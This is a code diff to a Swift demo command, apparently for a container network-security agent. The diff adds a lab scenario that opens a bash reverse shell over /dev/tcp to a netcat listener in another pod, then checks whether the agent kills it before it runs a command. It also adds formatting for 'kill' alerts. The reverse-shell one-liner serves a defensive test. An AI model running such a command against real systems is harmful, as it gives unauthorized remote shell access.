@@ -96,6 +96,24 @@ struct Demo: AsyncParsableCommand {
             console.detail(try agent.podwall(["quarantine", "list"]).output.trimmingCharacters(in: .whitespacesAndNewlines))
         }
 
+        if Shell.isInstalled("runc") {
+            let shop = try lab.runContainer(in: web, name: "shop", command: ["sleep", "600"])
+            // The listener sits in pod1: both internet addresses are blocked by now.
+            try lab.spawnInPod(frontend, ["sh", "-c", "nc -lk -p 9001 > /dev/null"])
+            usleep(200_000)
+            try play(
+                "A reverse shell in \(web.name)'s container (runc) to a listener in \(frontend.name): bash >& /dev/tcp/\(frontend.ipv4)/9001 0>&1",
+                expecting: "reverse_shell"
+            ) {
+                // The shell's first command would leave a file behind.
+                try lab.exec(
+                    in: shop, ["bash", "-c", "bash -c 'touch /shared/the-shell-ran' >& /dev/tcp/\(frontend.ipv4)/9001 0>&1"],
+                    check: false)
+                let ran = FileManager.default.fileExists(atPath: shop.sharedDirectory + "/the-shell-ran")
+                console.detail(ran ? "the shell ran a command" : "killed in the kernel before the shell read a command")
+            }
+        }
+
         console.step("A new pod joins: the agent attaches to its veth as it appears")
         let start = Date()
         let late = try lab.addPod()
@@ -175,6 +193,7 @@ struct DemoAlert {
             case "block": "block \(action["remote"] as? String ?? "?")"
             case "quarantine": "quarantine \(action["pod"] as? String ?? "?")"
             case "capture": "capture"
+            case "kill": (action["at_exec"] as? Bool == true ? "killed in the kernel" : "killed") + " (pid \(action["pid"] as? Int ?? 0))"
             default: nil
             }
         }
